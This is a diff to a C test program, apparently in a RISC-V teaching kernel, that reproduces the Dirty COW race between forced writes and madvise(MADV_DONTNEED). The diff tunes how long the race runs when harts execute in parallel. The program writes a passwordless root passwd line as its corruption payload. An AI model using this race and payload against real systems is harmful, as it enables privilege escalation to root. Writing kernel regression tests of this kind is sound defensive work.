@@ -29,6 +29,8 @@
 #define PGSIZE 4096
 #define MIN_TRIES 10000      /* forced writes, each with a madvise round between */
 #define TIMER_MSEC 2000      /* how long to race when only the timer opens the window */
+#define PARALLEL_ROUNDS 100  /* with `parallel`: madvise rounds on another hart mid-write ... */
+#define PARALLEL_MAX_MSEC 10000  /* ... unless the harts have not raced that often by then */
 
 static const char payload[] = "root::0:0:dirty cow was here:/root:/bin/sh\n";
 
@@ -41,6 +43,7 @@ static volatile int writing;       /* the writer is inside memwrite ... */
 static volatile int writer_hart;   /* ... on this hart */
 static volatile int parallel_rounds;   /* rounds done meanwhile on another hart */
 static unsigned int race_msec;     /* minimum race time (see read_cmdline) */
+static bool parallel;              /* boot argument `parallel` */
 static int min_tries;              /* boot argument tries=N, else MIN_TRIES */
 
 /* Read the whole (one-page) file into buf; returns its size. */
@@ -80,16 +83,24 @@ static int madviser(void *arg) {
  * of every forced write, and with `parallel` the madviser runs on
  * another hart; otherwise only a timer tick at the right moment lets it
  * in, so we race for a few seconds as well as a number of tries.
- * tries=N sets that number.
+ * tries=N sets that number. In parallel, how often the madviser gets in
+ * depends on how the host schedules QEMU's hart threads: on a loaded
+ * host one hart may barely run. So we also race until PARALLEL_ROUNDS
+ * madvise rounds have run on another hart during a forced write.
  */
 static void read_cmdline(void) {
-    race_msec = bootarg_has("gup_resched") || bootarg_has("parallel") ? 0 : TIMER_MSEC;
+    parallel = bootarg_has("parallel");
+    race_msec = bootarg_has("gup_resched") || parallel ? 0 : TIMER_MSEC;
     min_tries = MAX(bootarg_long("tries", MIN_TRIES), 1);
 }
 
-/* Enough racing: min_tries forced writes, and race_msec gone by. */
+/* Enough racing: min_tries forced writes, race_msec gone by, and (in parallel) real races. */
 static bool raced_enough(int tries, unsigned int start) {
-    return tries >= min_tries && gettime_msec() - start >= race_msec;
+    unsigned int msec = gettime_msec() - start;
+    if (tries < min_tries || msec < race_msec) {
+        return false;
+    }
+    return !parallel || parallel_rounds >= PARALLEL_ROUNDS || msec >= PARALLEL_MAX_MSEC;
 }
 
 /*
@@ -145,7 +156,7 @@ int main(void) {
     assert(map != MAP_FAILED);
     read_cmdline();
     cprintf("dirtycow: racing forced writes against madvise(MADV_DONTNEED) on %s (%s)\n", PATH,
-            race_msec > 0 ? "timer-driven" : bootarg_has("parallel") ? "parallel"
+            race_msec > 0 ? "timer-driven" : parallel ? "parallel"
                                                                      : "forced reschedule");
 
     int tid = thread_create(madviser, NULL), tries, code;
@@ -156,7 +167,7 @@ int main(void) {
     if (corrupted_at < 0) {
         exit(1);
     }
-    if (bootarg_has("parallel")) {
+    if (parallel) {
         cprintf("dirtycow: %d of %d madvise rounds ran on another hart during a forced write\n",
                 parallel_rounds, rounds);
     }
